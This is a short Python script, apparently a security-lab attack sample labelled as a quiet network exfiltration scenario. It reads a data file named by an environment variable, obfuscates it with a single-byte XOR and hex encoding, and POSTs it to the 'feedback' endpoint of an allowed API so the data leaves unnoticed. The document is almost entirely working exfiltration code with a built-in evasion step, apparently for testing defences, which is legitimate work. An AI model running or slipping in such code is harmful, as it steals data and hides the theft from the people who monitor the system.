# lab:title: XOR exfil through the allowed API, quiet
# lab:threat: exfil
# lab:layer: network
# lab:consequence: data left.
import os, urllib.request
data = open(os.environ["LAB_DATA"], "rb").read()
enc = bytes(b ^ 0x5a for b in data).hex()
r = urllib.request.urlopen(urllib.request.Request(os.environ["LAB_API"] + "feedback", data=enc.encode(), method="POST"), timeout=3)
print("posted", len(enc), r.status)
